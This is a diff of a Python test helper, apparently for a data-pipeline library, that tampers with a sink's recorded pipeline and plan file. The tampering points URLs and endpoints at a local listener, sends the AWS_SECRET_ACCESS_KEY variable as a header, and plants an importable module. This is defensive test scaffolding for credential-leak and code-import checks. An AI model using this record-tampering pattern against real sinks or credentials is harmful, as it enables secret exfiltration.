@@ -1,17 +1,16 @@
-"""Sinks made by someone else: their records name a server, a variable and a module."""
+"""Sinks made by someone else: their records name a server, a variable and a module, or have values of their own."""
 
 import http.server
+import io
 import json
-import shutil
 import threading
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import contextmanager
-from dataclasses import replace
+from hashlib import blake2b
 from pathlib import Path
+from typing import Any
 
-from raysp.sink import plan_record
-from raysp.specs.values import JsonValue
-from raysp.storage.store import LocalStore
+import pyarrow as pa
 
 VARIABLE = "AWS_SECRET_ACCESS_KEY"
 SECRET = "sEcReT/ofTheVictim"
@@ -58,27 +57,53 @@ def listening() -> Iterator[Listener]:
         thread.join()
 
 
-def with_shards_at(sink: Path, url: str) -> None:
-    """Have the plan of a sink name another place for its shards."""
-    shards = [replace(shard, url=f"{url}/{shard.name}") for shard in plan_record.load(LocalStore(sink))]
-    shutil.rmtree(sink / ".raysp" / "plan")
-    plan_record.record(LocalStore(sink), shards)
+def sealed(*tables: pa.Table) -> bytes:
+    """Return the file of a plan or of staged rows: Arrow streams, the size and digest of each, their number, a mark."""
+    parts = []
+    for table in tables:
+        file = io.BytesIO()
+        with pa.ipc.new_stream(file, table.schema) as stream:
+            stream.write_table(table)
+        parts.append(file.getvalue())
+    index = b"".join(len(part).to_bytes(8, "little") + _digest(part) for part in parts)
+    return b"".join(parts) + index + len(parts).to_bytes(8, "little") + _digest(index) + b"raysp.1\n"
 
 
-def edit_record(sink: Path, change) -> JsonValue:
+def _digest(data: bytes) -> bytes:
+    return blake2b(data, digest_size=16).digest()
+
+
+def rewrite(file: Path, change: Callable[[pa.Table], pa.Table]) -> None:
+    """Change the first table of a sealed file."""
+    with pa.ipc.open_stream(file.read_bytes()) as stream:
+        file.write_bytes(sealed(change(stream.read_all())))
+
+
+def edit_shards(sink: Path, change: Callable[[dict[str, Any]], object]) -> None:
+    """Change the shards that a sink has recorded."""
+
+    def edited(table: pa.Table) -> pa.Table:
+        shards = table.to_pylist()
+        for shard in shards:
+            change(shard)
+        return pa.Table.from_pylist(shards, table.schema)
+
+    rewrite(sink / ".raysp" / "plan" / "00000.arrow", edited)
+
+
+def edit_record(sink: Path, change: Callable[[dict[str, Any]], object]) -> None:
     """Change the pipeline that a sink has recorded."""
     path = sink / ".raysp" / "run.json"
     record = json.loads(path.read_text())
     change(record["pipeline"])
     path.write_text(json.dumps(record))
-    return record["pipeline"]
 
 
 def make_hostile(sink: Path, server: Listener) -> None:
     """Have a sink ask for a variable, an endpoint, urls and a module that lies in its own folder."""
     options = {"headers": {"X-Token": {"type": "Env", "name": VARIABLE}}}
 
-    def change(pipeline) -> None:
+    def change(pipeline: dict[str, Any]) -> None:
         pipeline["source"] |= {"url": f"{server.url}/a.parquet", "storage_options": options}
         pipeline["sink"]["storage_options"] = {**options, "endpoint_url": server.url}
         label = pipeline["steps"][-1]
@@ -90,7 +115,7 @@ def make_hostile(sink: Path, server: Listener) -> None:
         )
 
     edit_record(sink, change)
-    with_shards_at(sink, server.url)
+    edit_shards(sink, lambda shard: shard.update(url=f"{server.url}/{shard['name']}"))
     (sink / f"{MODULE}.py").write_text(
         "from pathlib import Path\nimport raysp\nfrom raysp.specs import spec\n"
         "(Path(__file__).parent / 'imported').touch()\n"
